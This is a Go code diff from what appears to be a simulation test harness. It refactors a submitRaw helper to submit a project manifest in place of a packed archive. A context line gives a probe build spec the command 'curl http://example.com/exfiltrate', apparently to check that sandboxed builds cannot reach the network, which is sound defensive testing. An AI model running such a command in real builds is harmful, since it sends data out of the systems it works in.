@@ -288,8 +288,7 @@ func limitProbes() (string, error) {
 		Commands: build.Commands{Build: []string{"curl http://example.com/exfiltrate"}},
 	}}
 	d.Clock.Advance(2 * time.Minute)
-	fsmem := projectArchive(project.Spec{Impl: cnn.ImplTiled, Team: "probe-team"})
-	netRes, err := submitRaw(d, c, netSpec, fsmem)
+	netRes, err := submitRaw(d, c, netSpec, project.Spec{Impl: cnn.ImplTiled, Team: "probe-team"})
 	if err != nil {
 		return "", err
 	}
@@ -297,12 +296,13 @@ func limitProbes() (string, error) {
 	return b.String(), nil
 }
 
-func projectArchive(spec project.Spec) []byte {
-	fsmem, _ := sim.PackProject(spec)
-	return fsmem
-}
-
-func submitRaw(d *sim.Deployment, c *core.Client, spec *build.Spec, archive []byte) (*core.JobResult, error) {
+// submitRaw submits proj under an explicit build spec (RunSubmission
+// always uses the project's own) and lets the first worker handle it.
+func submitRaw(d *sim.Deployment, c *core.Client, spec *build.Spec, proj project.Spec) (*core.JobResult, error) {
+	m, src, err := sim.ProjectManifest(proj)
+	if err != nil {
+		return nil, err
+	}
 	type out struct {
 		res *core.JobResult
 		err error
@@ -310,7 +310,7 @@ func submitRaw(d *sim.Deployment, c *core.Client, spec *build.Spec, archive []by
 	ctx := context.Background()
 	done := make(chan out, 1)
 	go func() {
-		res, err := c.SubmitContext(ctx, core.KindRun, spec, archive)
+		res, err := c.SubmitContext(ctx, core.KindRun, spec, m, src)
 		done <- out{res, err}
 	}()
 	if _, err := d.Workers()[0].HandleOne(ctx, 10*time.Second); err != nil {
